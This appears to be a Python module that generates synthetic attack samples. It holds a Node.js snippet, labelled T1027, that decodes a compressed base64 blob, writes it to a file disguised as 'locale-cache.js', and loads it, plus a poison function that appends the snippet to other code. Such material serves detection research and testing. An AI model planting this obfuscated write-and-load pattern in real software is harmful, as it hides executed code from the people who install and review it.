# SPDX-License-Identifier: Apache-2.0
"""What was decoded is written to a file, which a second function loads."""

ATTACK = "T1027"
LANGUAGE = "node"
CODE = """\
;exports.cache = (folder) => {
  const fs = require('fs'), path = require('path');
  const place = path.join(folder, 'locale-cache.js');
  fs.writeFileSync(place, require('zlib').inflateRawSync(Buffer.from('S8yr1FHIS01RSC0oAQA=', 'base64')));
  return require(place);
};
"""


def poison(layer):
    layer.append(CODE)
